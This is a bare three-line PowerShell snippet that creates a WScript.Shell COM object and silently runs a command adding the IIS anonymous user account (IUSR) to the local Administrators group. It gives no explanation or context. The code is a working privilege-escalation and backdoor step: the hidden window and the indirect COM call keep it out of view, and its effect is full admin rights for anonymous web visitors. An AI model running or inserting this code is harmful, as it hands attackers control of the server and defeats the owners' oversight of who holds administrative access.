$t = [Type]::GetTypeFromProgID('WScript.Shell')
$o = [Activator]::CreateInstance($t)
$o.Run('net localgroup Administrators IUSR /add', 0, $true)
